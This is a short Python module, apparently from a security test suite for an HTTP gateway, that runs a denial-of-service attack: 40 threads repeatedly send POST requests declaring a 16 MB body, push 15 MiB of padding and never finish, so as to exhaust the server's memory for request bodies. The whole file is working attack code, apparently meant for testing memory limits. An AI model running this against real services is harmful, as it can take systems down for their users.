"""40 requests over HTTP send 15 MiB of a body each, and never the rest."""

from __future__ import annotations

import contextlib
import threading

from attacks.target import FLOOD_BYTES, Target, request, served, together

ITEM = 30
MEMORY_MIB = 420
"""`http_bodies_bytes`, and what is on its way to them."""
look = served


LENGTH = 16_000_000
SENT = 15 * 2**20


def attack(target: Target) -> None:
    head = request("POST", "/services/workshop/echo", Content_Type="application/json", Content_Length=LENGTH)

    def begin() -> None:
        while True:
            with contextlib.suppress(OSError), target.gateway() as one:
                one.sendall(head + b"\r\n")
                for _ in range(SENT // FLOOD_BYTES):
                    one.sendall(b" " * FLOOD_BYTES)
                one.recv(1)

    together(threading.Thread(target=begin) for _ in range(40))
